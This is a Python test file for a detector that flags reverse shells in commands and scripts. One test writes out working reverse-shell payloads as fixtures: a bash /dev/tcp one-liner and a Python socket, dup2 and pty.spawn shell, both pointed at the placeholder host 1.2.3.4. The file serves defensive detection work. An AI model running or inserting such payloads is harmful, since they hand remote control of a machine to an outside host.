"""Shells that are opened to elsewhere: a shell whose input and output are a connection, in a command or in code."""

from tallystick.policy.risks.reverse_shells import RISKS, descriptor_risks, risks
from tests.policy.risks.readings import FOLDER, found
from tests.support.cases import cases, each, each_case

FOUND = cases(__file__, "found", dict[str, tuple[str, ...]])


@each("name, command", [(name, each) for name, commands in FOUND.items() for each in commands])
def test_a_shell_that_is_joined_with_a_connection_is_found(name: str, command: str) -> None:
    assert name in found(risks, command)


@each_case("command")
def test_a_connection_or_a_shell_alone_is_work(command: str) -> None:
    assert found(risks, command) == set()


def test_each_risk_has_an_example() -> None:
    assert FOUND.keys() == RISKS.keys()


def test_a_script_that_is_run_is_looked_into() -> None:
    files = {
        f"{FOLDER}/a.sh": "#!/bin/bash\nbash -i >& /dev/tcp/1.2.3.4/99 0>&1\n",
        f"{FOLDER}/a.py": "import socket, os, pty\ns = socket.socket()\ns.connect(('1.2.3.4', 9))\n"
        "os.dup2(s.fileno(), 0)\npty.spawn('sh')\n",
    }
    assert found(risks, "./a.sh", files) == {"reverse-shell"}
    assert found(risks, "python3 a.py", files) == {"reverse-shell"}
    assert found(risks, "cat a.sh a.py", files) == set()


@each_case("command")
def test_a_shell_that_is_joined_by_descriptors_is_found(command: str) -> None:
    assert found(descriptor_risks, command) == {"reverse-shell"}


@each_case("command")
def test_descriptors_of_files_and_of_other_programs_are_work(command: str) -> None:
    assert found(descriptor_risks, command) == set()
